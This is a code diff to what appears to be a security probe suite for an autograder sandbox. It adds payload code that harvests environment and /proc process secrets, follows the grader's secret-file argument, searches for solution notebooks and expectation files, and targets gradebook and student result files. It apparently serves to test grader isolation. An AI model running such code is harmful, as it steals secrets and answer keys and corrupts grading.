@@ -231,7 +231,10 @@ targets = [
     os.path.join(sysconfig.get_paths()["purelib"], "{CANARY}_pwned.py"),
     os.path.join(os.path.dirname(sys.executable), "{CANARY}-pwned"),
 ]
-for pattern in ("../mg-*", "../*/students/*", "/tmp/*/out", "/tmp/*/*/out"):
+targets += ["../out/gradebook.sqlite", "../out/index.html", "../out/grades.csv"]
+targets += glob.glob("/tmp/*/students/*/results.json") + glob.glob("/tmp/*/*/students/*/results.json")
+targets += glob.glob("../out/students/*/results.json") + glob.glob("../*/students/*/report.html")
+for pattern in ("../mg-*", "../*/students/*", "/tmp/*/out", "/tmp/*/*/out", "/tmp/*/students/*"):
     targets += [os.path.join(p, "{CANARY}-pwned.txt") for p in glob.glob(pattern)]
 for path in targets:
     try:
@@ -297,9 +300,11 @@ for host, port in targets[:60]:
 
 SECRET_HUNT = """\
 import os
+import sys
 import time
 
 found = [f"env {name}={value}" for name, value in os.environ.items()]
+deadline = time.monotonic() + 4
 for pid in os.listdir("/proc"):
     if pid.isdigit():
         for part in ("environ", "cmdline"):
@@ -311,7 +316,47 @@ for pid in os.listdir("/proc"):
             text = data.replace(b"\\0", b" ").decode(errors="replace")
             found.append(f"/proc/{pid}/{part}: {text}")
 words = ("secret", "seed", "token", ".env", "gradebook", "request.json", "inputs.npz", "spec")
-deadline, seen = time.monotonic() + 10, 0
+seen = 0
+# The grader's own command line names its secret file: follow it.
+for entry in list(found):
+    words_in = entry.split(" ")
+    for i, word in enumerate(words_in[:-1]):
+        if word.startswith("--secret-file"):
+            path = word.split("=", 1)[1] if "=" in word else words_in[i + 1]
+            try:
+                with open(path, "rb") as handle:
+                    found.append(f"SECRET FILE {path}: " + handle.read(200).decode(errors="replace"))
+            except OSError as exc:
+                found.append(f"SECRET FILE {path}: unreadable ({exc.strerror})")
+# The grader's answers: its package, the solution notebook, the spec and the expectations.
+answers = ("solution.ipynb", "deepbind_motif.toml", "expectations.json")
+grader_source = []
+for name in ("grader", "reference"):
+    try:
+        module = __import__(name)
+    except Exception:
+        continue
+    files = [f for folder in getattr(module, "__path__", []) for f in os.listdir(folder)]
+    if files:
+        grader_source.append(f"package {name}: {sorted(files)[:50]}")
+for top in [*sys.path, "/work", "/root", "/home", "/opt", "/srv", "/usr/local"]:
+    if not top or not os.path.isdir(top):
+        continue
+    for folder, dirs, files in os.walk(top):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", ".git", "node_modules")]
+        for name in files:
+            if name in answers:
+                path = os.path.join(folder, name)
+                try:
+                    with open(path, "rb") as handle:
+                        grader_source.append(f"{path}: " + handle.read(300).decode(errors="replace"))
+                except OSError:
+                    pass
+        if time.monotonic() > deadline:
+            break
+found += [f"GRADER SOURCE {line}" for line in grader_source]
+found.append("GRADER SOURCE: none found" if not grader_source else "GRADER SOURCE: found")
+deadline = time.monotonic() + 4
 for top in ("..", "/tmp", "/run", "/root", "/home", "/work", "/etc/motifgrader"):
     for folder, dirs, files in os.walk(top):
         dirs[:] = [d for d in dirs if d not in (".venv", "site-packages", ".git", "proc", "sys")]
